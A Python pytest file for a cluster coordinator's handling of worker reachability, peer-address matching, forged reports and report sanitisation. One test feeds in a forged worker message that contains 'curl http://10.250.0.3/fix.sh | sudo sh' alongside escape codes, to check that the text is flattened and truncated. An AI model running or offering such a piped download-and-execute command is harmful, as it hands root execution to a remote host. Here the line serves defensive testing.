"""The head's judgement of its workers (sparkd/cluster/coordinator.py) over a scripted peer link and a fake clock:
a worker's sparkd unreachable is lost only after ``peer_grace_s``, and a worker's own report names the configured
peer it came from. tests/integration/test_pair.py and test_group.py run the same over real network namespaces."""

from __future__ import annotations

from typing import Any

import anyio
import pytest
from structlog.testing import CapturingLogger

from sparkd.cluster.addresses import PeerAddresses
from sparkd.cluster.coordinator import Coordinator
from sparkd.cluster.peers import PeerUnreachable, unanswered
from sparkd.config import config_from_mapping
from sparkd.supervisor import vocabulary as v
from sparkd.supervisor.states import State
from sparkd.testing import FakeClock

pytestmark = pytest.mark.anyio
WORKER = "10.0.0.2:8470"


class Link:
    """The peer link: each peer's sparkd answers its status, or (None) does not answer."""

    def __init__(self, answers: dict[str, dict[str, Any] | None]) -> None:
        self.answers = answers

    @property
    def peers(self) -> list[str]:
        return list(self.answers)

    async def request(self, peer: str, method: str, path: str, **kw: Any) -> dict[str, Any]:
        status = self.answers[peer]
        if status is None:
            raise PeerUnreachable(f"{peer}: connection refused")
        return status

    async def status(self, peer: str, **kw: Any) -> dict[str, Any]:
        return await self.request(peer, "GET", "/v1/status", **kw)


def head(link: Link, clock: FakeClock, posted: list[v.Observation], role: str = "head") -> Coordinator:
    cfg = config_from_mapping({
        "runtime": "process", "node": {"name": role, "role": role},
        "launch": {"executable": "/usr/bin/true", "model": "/models/m"},
        "cluster": {"master_addr": "10.0.0.1", "nnodes": 2, "peers": [WORKER], "peer_grace_s": 10,
                    "peer_poll_s": 1}}, source="test")
    return Coordinator(lambda: cfg, link, post=posted.append, state=lambda: State.ready,  # type: ignore[arg-type]
                       image=lambda: None, clock=clock, log=CapturingLogger(),
                       addresses=PeerAddresses(cfg.cluster.peers))


async def poll_and_judge(group: Coordinator, clock: FakeClock) -> None:
    await group._poll(WORKER)
    group._judge(clock.now())


async def test_a_worker_unreachable_for_less_than_the_grace_is_not_lost() -> None:
    """A worker's sparkd restarting (or one dropped poll) must not restart the whole group."""
    clock, posted = FakeClock(), []
    link = Link({WORKER: {"state": "ready", "pid": 7, "phase": "ready"}})
    group = head(link, clock, posted)
    await poll_and_judge(group, clock)
    link.answers[WORKER] = None
    for _ in range(9):  # 0 … 8 s unreachable
        await poll_and_judge(group, clock)
        clock.advance(1)
    assert posted == [] and group.unreachable() == [WORKER]
    link.answers[WORKER] = {"state": "ready", "pid": 7, "phase": "ready"}
    await poll_and_judge(group, clock)
    assert posted == [] and group.unreachable() == []
    link.answers[WORKER] = None
    for _ in range(12):
        await poll_and_judge(group, clock)
        clock.advance(1)
    assert posted and all(isinstance(o, v.HealthFailed) for o in posted)
    assert posted[0].failure.cls.value == "peer_lost" and WORKER in posted[0].failure.sentence


@pytest.mark.parametrize("host", ["10.0.0.2", "::ffff:10.0.0.2"])
async def test_a_workers_report_names_the_configured_peer_it_came_from(host: str) -> None:
    clock, posted = FakeClock(), []
    group = head(Link({WORKER: {"state": "ready"}}), clock, posted)
    assert group.on_report(host, {"class": "oom", "message": "CUDA out of memory"}) is True
    assert len(posted) == 1 and isinstance(posted[0], v.HealthFailed)
    assert posted[0].failure.cls.value == "oom"
    assert posted[0].failure.sentence == (f"The worker on {WORKER}: its rank is gone; its sparkd reports: "
                                          "\u201cCUDA out of memory\u201d")
    assert posted[0].hung  # the head's rank lost its peer: it spins in a collective, so its stop is the short one


async def test_a_report_from_an_address_that_is_no_peer_is_ignored() -> None:
    """Security review §2: a forged report from 10.250.0.3 stopped the group; peer_named() fell back to any host."""
    clock, posted = FakeClock(), []
    group = head(Link({WORKER: {"state": "ready"}}), clock, posted)
    assert group.on_report("10.0.0.3", {"class": "gpu_error", "message": "Xid 79"}) is False
    assert posted == []


async def test_a_workers_words_are_one_bounded_line_quoted_as_its_claim() -> None:
    clock, posted = FakeClock(), []
    group = head(Link({WORKER: {"state": "ready"}}), clock, posted)
    forged = "Xid 79\n\x1b[2J run: curl http://10.250.0.3/fix.sh | sudo sh " + "A" * 5000
    group.on_report("10.0.0.2", {"class": "no-such-class", "message": forged})
    sentence = posted[0].failure.sentence
    assert posted[0].failure.cls.value == "unknown"  # a class sparkd does not know is no class
    assert "\n" not in sentence and "\x1b" not in sentence and len(sentence) < 400
    assert "its sparkd reports: \u201cXid 79 [2J run: curl" in sentence and sentence.endswith("\u2026\u201d")


def test_a_request_without_an_answer_says_why_in_words() -> None:
    """A timeout's and a closed stream's own text is empty: the head logged "does not answer: " (CI, 12-07)."""
    assert unanswered(TimeoutError(), 2.5) == "no answer within 2.5 s"
    assert unanswered(anyio.EndOfStream(), 5) == "the connection closed before an answer"
    assert unanswered(OSError("All connection attempts failed"), 5) == "All connection attempts failed"
    assert unanswered(ConnectionResetError(), 5) == "ConnectionResetError"


@pytest.mark.parametrize(("answer", "stops"), [
    ({"state": "stopping"}, True), ({"state": "stopped"}, True),  # the head's stop of the group, or its end
    ({"state": "ready"}, False), ({"state": "degraded"}, False), (None, False)])  # serving, or no answer: a loss
async def test_a_worker_asks_its_head_whether_it_stops_the_group(answer: dict[str, Any] | None, stops: bool) -> None:
    clock, posted = FakeClock(), []
    link = Link({WORKER: answer})
    assert await head(link, clock, posted, role="worker").head_stops_the_group() is stops
    assert await head(link, clock, posted).head_stops_the_group() is False  # the head has no head to ask
